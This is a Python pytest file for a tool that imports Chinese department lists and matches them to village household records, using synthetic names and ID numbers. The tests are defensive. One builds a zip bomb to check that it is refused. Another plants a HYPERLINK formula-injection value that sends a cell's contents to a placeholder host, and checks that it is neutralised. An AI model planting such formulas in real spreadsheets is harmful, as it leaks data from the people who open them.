"""Importing department lists (.xlsx, .xls, .csv in UTF-8 or GBK) and the hits they give."""

from __future__ import annotations

import datetime

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from desktop.models.comparison import (
    HIT_OPEN,
    HIT_SUPERSEDED,
    MATCH_ID,
    MATCH_ID15,
    MATCH_NAME_BIRTH,
    DepartmentList,
    DepartmentRow,
    Hit,
)
from desktop.services.comparison.importer import import_department_list, remembered_mapping
from desktop.services.comparison.reader import DepartmentFileError, read_department_file
from desktop.services.unit_of_work import Database
from tests.services.comparison.fixtures import (
    HEAD_ID,
    OLD_BIRTH,
    SON_ID,
    WIFE_ID,
    build_village,
    to15,
)

RECEIVED = datetime.date(2018, 6, 10)


def _xlsx(path, rows, title=None):
    wb = Workbook()
    ws = wb.active
    if title:
        ws.append([title])
    for row in rows:
        ws.append(row)
    wb.save(path)
    return path


def _import(engine, source, department, **kw):
    return import_department_list(Database(engine), source, department, **kw)


def _hits(engine):
    with Session(engine) as s:
        return s.execute(
            select(Hit.member_name, Hit.match_kind, Hit.household_id, Hit.status).order_by(Hit.id)
        ).all()


def test_vehicle_list_finds_by_id_15_digits_name_and_birth_and_a_member_who_left(engine, tmp_path):
    places = build_village(engine)
    path = _xlsx(
        tmp_path / "车管所.xlsx",
        [
            ["序号", "车主", "身份证号码", "号牌号码", "登记日期", "出生日期"],
            [1, "林大", HEAD_ID, "粤N12345", "2017-03-02", ""],
            [2, "陈花", to15(WIFE_ID), "粤N22222", "2016-01-01", ""],
            [3, "林小", SON_ID, "粤N33333", "2018-01-01", ""],
            [4, "林婆婆", "", "粤N44444", "2015-05-05", "1941年2月3日"],
            [5, "路人甲", "110101199001011234", "粤N55555", "2015-05-05", ""],
        ],
        title="2018年机动车登记信息",
    )
    result = import_department_list(
        Database(engine), path, "公安（车管所）", received_on=RECEIVED, who="张文书"
    )
    assert result.ok, result.summary_lines()
    assert (result.rows, result.hits) == (5, 4)
    hits = _hits(engine)
    assert [(h.member_name, h.match_kind) for h in hits] == [
        ("林大", MATCH_ID),
        ("陈花", MATCH_ID15),
        ("林小", MATCH_ID),
        ("林婆婆", MATCH_NAME_BIRTH),
    ]
    assert {h.household_id for h in hits} == {places["first"]}
    with Session(engine) as s:
        listing = s.scalar(select(DepartmentList))
        assert (listing.department, listing.received_on, listing.imported_by) == (
            "公安（车管所）",
            RECEIVED,
            "张文书",
        )
        assert listing.detail_headers == ["序号", "号牌号码", "登记日期"]
        row = s.scalar(select(DepartmentRow).where(DepartmentRow.name == "林大"))
        assert row.row_number == 3 and row.detail.split("\x1f") == ["1", "粤N12345", "2017-03-02"]
    assert remembered_mapping(Database(engine), "公安（车管所）") == {
        "name": "车主", "id_number": "身份证号码", "birth_date": "出生日期",
    }  # fmt: skip


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gbk"])
def test_a_csv_in_utf8_or_gbk_with_its_own_headers(engine, tmp_path, encoding):
    build_village(engine)
    path = tmp_path / "公积金.csv"
    path.write_bytes(
        f"缴存人姓名,公民身份号码,单位名称,月缴存额\n林大,{HEAD_ID},梅陇镇农机站,320\n".encode(
            encoding
        )
    )
    sheet = read_department_file(path)
    assert sheet.encoding == ("UTF-8" if encoding == "utf-8-sig" else "GBK")
    result = import_department_list(
        Database(engine), sheet, "公积金", received_on=RECEIVED, who="张文书"
    )
    assert result.ok and result.hits == 1


def test_a_file_with_one_bad_row_imports_nothing_and_names_row_column_value(engine, tmp_path):
    build_village(engine)
    path = _xlsx(
        tmp_path / "工商.xlsx",
        [
            ["姓名", "证件号码", "企业名称", "出生日期"],
            ["林大", HEAD_ID, "海丰县林记商行", ""],
            ["陈花", 4.41521197205012e17, "某公司", ""],
            ["某人", "44152119******1234", "某公司", ""],
            ["无名", "", "某公司", "1970-13-01"],
            ["", "", "只有企业名称", ""],
        ],
    )
    result = import_department_list(
        Database(engine), path, "工商", received_on=RECEIVED, who="张文书"
    )
    assert not result.ok
    where = [(e.row, e.column_letter, e.message) for e in result.errors]
    assert where[0][:2] == (3, "B") and "数字" in where[0][2]
    assert where[1][:2] == (4, "B") and "打码" in where[1][2]
    assert where[2] == (5, "D", "出生日期不存在")
    assert where[3][0] == 6 and "无法比对" in where[3][2]
    assert "整个文件没有导入" in result.summary_lines()[0]
    with Session(engine) as s:
        assert s.scalar(select(func.count(DepartmentList.id))) == 0
        assert s.scalar(select(func.count(DepartmentRow.id))) == 0
        assert s.scalar(select(func.count(Hit.id))) == 0


def test_a_mapping_without_name_is_refused_in_chinese(engine, tmp_path):
    build_village(engine)
    path = _xlsx(tmp_path / "x.xlsx", [["甲", "乙"], ["1", "2"]])
    result = import_department_list(
        Database(engine), path, "民政", received_on=RECEIVED, who="张文书"
    )
    assert not result.ok and result.fatal == "请指定“姓名”所在的列"


def test_the_mapping_is_remembered_for_the_department(engine, tmp_path):
    build_village(engine)
    rows = [["纳税人", "识别号", "税额"], ["林大", HEAD_ID, "1200"]]
    mapping = {"name": "纳税人", "id_number": "识别号"}
    first = _import(
        engine,
        _xlsx(tmp_path / "a.xlsx", rows),
        "地税",
        received_on=RECEIVED,
        who="张",
        mapping=mapping,
    )
    assert first.ok and first.hits == 1
    again = import_department_list(
        Database(engine), _xlsx(tmp_path / "b.xlsx", rows), "地税", received_on=RECEIVED, who="张"
    )
    assert again.ok and again.rows == 1


def test_a_new_list_replaces_the_open_hits_only_when_asked(engine, tmp_path):
    build_village(engine)
    rows = [["姓名", "身份证号"], ["林大", HEAD_ID]]
    for replace_open in (False, True):
        _import(
            engine,
            _xlsx(tmp_path / f"{replace_open}.xlsx", rows),
            "民政",
            received_on=RECEIVED,
            who="张",
            replace_open=replace_open,
        )
    assert [h.status for h in _hits(engine)] == [HIT_SUPERSEDED, HIT_OPEN]


def test_unreadable_files_are_refused_in_chinese(tmp_path):
    doc = tmp_path / "a.doc"
    doc.write_bytes(b"x")
    with pytest.raises(DepartmentFileError, match="不支持的文件类型"):
        read_department_file(doc)
    fake = tmp_path / "a.xlsx"
    fake.write_bytes(b"not a workbook")
    with pytest.raises(DepartmentFileError, match="损坏"):
        read_department_file(fake)
    utf16 = tmp_path / "b.csv"
    utf16.write_bytes("姓名,身份证号\n".encode("utf-16"))
    with pytest.raises(DepartmentFileError, match="不是文本文件"):
        read_department_file(utf16)


def test_a_list_without_ids_finds_registered_people_by_name_and_birth_date(engine, tmp_path):
    places = build_village(engine)
    path = tmp_path / "民政.csv"
    path.write_text(
        "姓名,出生日期,救助类别\n黄二,1966-01-05,临时救助\n黄二,1966-01-06,低保\n", encoding="utf-8"
    )
    result = _import(engine, path, "民政", received_on=RECEIVED, who="张")
    assert result.ok and result.hits == 1
    assert [(h.member_name, h.match_kind, h.household_id) for h in _hits(engine)] == [
        ("黄二", MATCH_NAME_BIRTH, places["second"])
    ]


def test_old_birth_date_is_what_name_matching_uses(engine, tmp_path):
    build_village(engine)
    path = tmp_path / "民政.csv"
    path.write_text(f"姓名,出生日期,救助类别\n林婆婆,{OLD_BIRTH:%Y%m%d},低保\n", encoding="utf-8")
    result = _import(engine, path, "民政", received_on=RECEIVED, who="张")
    assert result.ok and result.hits == 1


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    import zipfile

    bomb = tmp_path / "炸弹.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (50 << 20))
    with pytest.raises(DepartmentFileError) as refused:
        read_department_file(bomb)
    assert "炸弹.xlsx" in str(refused.value) or "解压" in str(refused.value)


def test_the_error_report_writes_a_hostile_value_as_text_not_a_live_formula(engine, tmp_path):
    from openpyxl import load_workbook

    from desktop.services.comparison.importer import write_error_report

    build_village(engine)
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
    wb = Workbook()
    wb.active.append(["姓名", "证件号码", "企业名称", "出生日期"])
    wb.active.append(["无名", "", "某公司", "1970-01-01"])
    wb.active["D2"].value, wb.active["D2"].data_type = (
        hostile,
        "s",
    )  # text that looks like a formula
    path = tmp_path / "工商.xlsx"
    wb.save(path)
    result = import_department_list(
        Database(engine), path, "工商", received_on=RECEIVED, who="张文书"
    )
    assert not result.ok and result.errors[0].value == hostile
    report = load_workbook(write_error_report(result, tmp_path / "report.xlsx"))["错误汇总"]
    [row] = [r for r in report.iter_rows(min_row=2) if r[2].value == hostile]
    assert row[2].data_type == "s" and row[0].value == 2 and row[1].value.startswith("D")


@pytest.mark.parametrize(
    "column",
    [
        [1.0, 2.0, 70113.0, -5.0, 0.0],
        [-0.0, 3.0],
        [999999999999999.0, -999999999999999.0],
        [1e15, 2.0],
        [-1e15, 2.0],
        [0.5, 2.0],
        [float("nan"), 1.0],
        [float("inf"), 1.0],
        [1.0, "一"],
        [1, 2],
    ],
)
def test_a_column_of_numbers_reads_as_display_text_shows_each_cell(column):
    from desktop.services.comparison.importer import _texts
    from desktop.services.roster.sheet import display_text

    assert _texts(column) == [display_text(v) for v in column]
